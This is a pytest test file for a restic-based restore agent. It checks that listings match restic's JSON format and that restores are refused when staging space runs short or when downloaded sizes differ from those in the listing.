def test_hand_written_listings_are_restics_format(crafted: Repo) -> None:
    """The fields of the listings above are those real restic lists, type and permission bits alike."""
    real: dict[str, dict[str, Any]] = {}
    for case in ("good", "symlinked-manifest", "fifo-beside-the-db"):
        done = crafted.repo.restic(crafted.repo.access, "ls", "--json", crafted.snapshots[case].id)
        head, *nodes = (json.loads(line) for line in done.stdout.splitlines())
        assert head["struct_type"] == "snapshot" and head["id"] == crafted.snapshots[case].id
        real.setdefault("snapshot", head)
        for entry in nodes:
            real.setdefault(entry["type"], entry)
    # uid and gid are left out for 0 (root), as the lines above leave them out.
    assert set(SNAPSHOT_LINE) <= set(real["snapshot"]) <= set(SNAPSHOT_LINE) | {"uid", "gid"}
    for kind in ("dir", "file", "symlink", "fifo"):
        mine = node("/x", kind)
        assert set(mine) == set(real[kind]), kind
        assert mine["mode"] & GO_MODE_TYPE == real[kind]["mode"] & GO_MODE_TYPE, kind
        assert mine["permissions"][0] == real[kind]["permissions"][0], kind
    # And the real listing of the good snapshot is read as the hand-written one is.
    good = crafted.snapshots["good"]
    done = crafted.repo.restic(crafted.repo.access, "ls", "--json", good.id)
    assert agent.fetch_plan(done.stdout, good.id) == plan(
        str(good.db), str(good.manifest), len(crafted.good_db), len(crafted.good_manifest)
    )


@pytest.mark.parametrize(("short", "refused"), [(-1, True), (0, False)], ids=["too-little-room", "just-enough-room"])
def test_nothing_is_downloaded_without_room_to_stage_it(
    crafted: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    short: int,
    refused: bool,
) -> None:
    """Room on the staging filesystem for both files and STAGING_SPARE_BYTES, or no download at all."""
    good = crafted.snapshots["good"]
    need = len(crafted.good_db) + len(crafted.good_manifest) + agent.STAGING_SPARE_BYTES
    asked: list[Path] = []
    disk_usage = agent.shutil.disk_usage

    def little_room(path: Path) -> Any:
        asked.append(Path(path))
        return disk_usage(path)._replace(free=need + short)

    monkeypatch.setattr(agent.shutil, "disk_usage", little_room)
    fetched = fetch(crafted, "good", tmp_path, monkeypatch, capsys)
    staging = tmp_path / "cache" / "restore"
    assert asked == [staging]
    if refused:
        assert_refused(
            fetched, good, f"'s database copy is {len(crafted.good_db)} bytes; {staging} has {need - 1} free"
        )
        assert fetched.commands == [listed(good)]
        assert fetched.downloads == []
    else:
        assert fetched.code == 0 and fetched.answer["installed"] is True, fetched.answer
        assert fetched.backups == [f"{NAME}.db", f"{NAME}.json"]


SIZE_ROWS = [
    # id, the file whose listed size is changed, by how much (None: the path changed instead), the refusal
    # ({path}: that file; {real}: its real size; {listed}: the changed one), what was downloaded
    ("db-larger-than-listed", "db", -1, "{path} is larger than its listing says", ("json", "db")),
    ("manifest-larger-than-listed", "json", -1, "{path} is larger than its listing says", ("json",)),
    ("db-smaller-than-listed", "db", 1, "{path} came back with {real} bytes, not {listed}", ("json", "db")),
    ("manifest-smaller-than-listed", "json", 1, "{path} came back with {real} bytes, not {listed}", ("json",)),
    ("db-not-in-the-snapshot", "db", None, "cannot be read back from the repository: ", ("json", "db")),
]


@pytest.mark.parametrize(("which", "change", "words", "downloaded"), params(SIZE_ROWS))
def test_restic_sends_exactly_what_was_listed_or_nothing_is_installed(
    crafted: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    which: str,
    change: int | None,
    words: str,
    downloaded: tuple[str, ...],
) -> None:
    """restic dump sends more (or fewer) bytes than `restic ls` listed: the listing is made to say
    so (fetch_plan wrapped); refused, the staging directory removed, nothing installed."""
    good = crafted.snapshots["good"]
    fetch_plan = agent.fetch_plan
    paths = {"json": good.manifest, "db": good.db}
    real = len(good.sent[str(paths[which])])
    listed_size = real + (change or 0)

    def changed_plan(listing_: str, snapshot: str) -> tuple[dict, dict]:
        db, manifest = fetch_plan(listing_, snapshot)
        node = db if which == "db" else manifest
        node["size"] = listed_size
        if change is None:
            node["path"] += ".gone"
        return db, manifest

    monkeypatch.setattr(agent, "fetch_plan", changed_plan)
    fetched = fetch(crafted, "good", tmp_path, monkeypatch, capsys)
    assert_refused(fetched, good, words.format(path=paths[which], real=real, listed=listed_size))
    asked = [Path(str(paths[d]) + (".gone" if change is None and d == which else "")) for d in downloaded]
    assert fetched.commands == [listed(good), *dumped(good, *asked)]
